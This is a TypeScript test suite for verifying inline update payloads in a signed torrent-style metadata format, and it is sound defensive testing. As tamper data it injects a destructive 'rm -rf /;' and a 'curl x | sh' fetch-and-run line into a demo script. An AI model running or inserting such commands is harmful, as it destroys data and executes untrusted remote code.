/**
 * An inline payload (spec §Inline payload): the bytes travel in the torrent-file++ beside
 * the signed info, outside it, so each is checked against the signed length and SHA-256.
 * Attacks: bytes swapped (same length), bytes of another length, a payload above the
 * bound, and a file stripped of its payload (still valid: the node downloads instead).
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { MetadataError, UsageError, type MetadataCode } from '../../agent/lib/common/errors.ts';
import { createTorrentPlusPlus } from '../../agent/lib/metainfo/create.ts';
import { LIMITS } from '../../agent/lib/metainfo/limits.ts';
import { parseTorrentPlusPlus } from '../../agent/lib/metainfo/parse.ts';
import { verifyTorrentPlusPlus } from '../../agent/lib/metainfo/verify.ts';
import { edit } from '../helpers/bencode-edit.ts';
import { makeAdmin, makeTorrent, payloadBytes, tempDir, type Admin } from '../helpers/fixtures.ts';

const NOW = Date.parse('2026-12-03T12:00:00Z');
const SCRIPT = Buffer.from('#!/bin/sh\nsystemctl restart demo\n');

describe('inline payloads', () => {
  let admin: Admin;
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let good: Uint8Array;

  const verify = (raw: Uint8Array) => verifyTorrentPlusPlus(raw, { trusted: [admin.pub], now: NOW });
  const refused = (raw: Uint8Array, code: MetadataCode, re: RegExp) =>
    assert.rejects(
      verify(raw),
      (e: unknown) => e instanceof MetadataError && e.code === code && re.test(e.message),
    );

  before(async () => {
    admin = await makeAdmin();
    dir = await tempDir();
    ({ bytes: good } = await makeTorrent(dir.path, admin, {
      payload: SCRIPT,
      file: 'fix.sh',
      inline: true,
      now: NOW,
    }));
  });
  after(() => dir.cleanup());

  it('create --inline carries the bytes; they verify and come out as they went in', async () => {
    const u = await verify(good);
    assert.deepEqual(Buffer.from(u.torrent.inline!), SCRIPT);
    assert.equal(u.length, SCRIPT.length);
    const { bytes: plain } = await makeTorrent(dir.path, admin, {
      payload: SCRIPT,
      file: 'fix.sh',
      now: NOW,
    });
    assert.equal(parseTorrentPlusPlus(plain).inline, undefined, 'not inline unless asked');
    assert.equal(
      parseTorrentPlusPlus(plain).infoHash,
      u.infoHash,
      'the info dict (and the swarm) is the same',
    );
  });

  it('swapped bytes of the same length are refused (PAYLOAD_MISMATCH)', async () => {
    const evil = Buffer.from(SCRIPT);
    evil.write('rm -rf /;', 10);
    const swapped = edit(good, (t) => void (t['payload'] = evil));
    await refused(swapped, 'PAYLOAD_MISMATCH', /inline payload SHA-256/);
    // The signature was valid: the refusal names the update.
    const e = await verify(swapped).catch((x: unknown) => x);
    assert.ok(e instanceof MetadataError && e.signed !== undefined);
    assert.match(e.signed.infoHash, /^[0-9a-f]{40}$/);
    assert.equal(typeof e.signed.uri, 'string');
    assert.equal(typeof e.signed.version, 'number');
  });

  it('bytes of another length are refused before the signature is checked (MALFORMED)', async () => {
    const longer = Buffer.concat([SCRIPT, Buffer.from('curl x | sh\n')]);
    await refused(
      edit(good, (t) => void (t['payload'] = longer)),
      'MALFORMED',
      /info\.length says/,
    );
  });

  it('more than the bound inline is refused (TOO_LARGE), and create refuses to make it', async () => {
    const big = payloadBytes(LIMITS.maxInlineBytes + 1);
    await refused(
      edit(good, (t) => void (t['payload'] = big)),
      'TOO_LARGE',
      /the limit is 65536/,
    );
    const { payloadPath } = await makeTorrent(dir.path, admin, { payload: big, file: 'big.bin', now: NOW });
    await assert.rejects(
      createTorrentPlusPlus(payloadPath, {
        uri: 'app:/x',
        version: 1,
        key: admin.secret,
        now: NOW,
        inline: true,
      }),
      (e: unknown) => e instanceof UsageError && /at most 65536 bytes/.test(e.message),
    );
  });

  it('exactly the bound inline is accepted', async () => {
    const { bytes } = await makeTorrent(dir.path, admin, {
      payload: payloadBytes(LIMITS.maxInlineBytes, 9),
      file: 'max.bin',
      inline: true,
      now: NOW,
    });
    assert.equal((await verify(bytes)).torrent.inline?.length, LIMITS.maxInlineBytes);
  });

  it('a file stripped of its payload still verifies (the node downloads the payload instead)', async () => {
    const stripped = edit(good, (t) => void delete t['payload']);
    const u = await verify(stripped);
    assert.equal(u.torrent.inline, undefined);
  });

  it('a payload that is not a byte string is refused', async () => {
    await refused(
      edit(good, (t) => void (t['payload'] = 42)),
      'MALFORMED',
      /payload/,
    );
  });
});
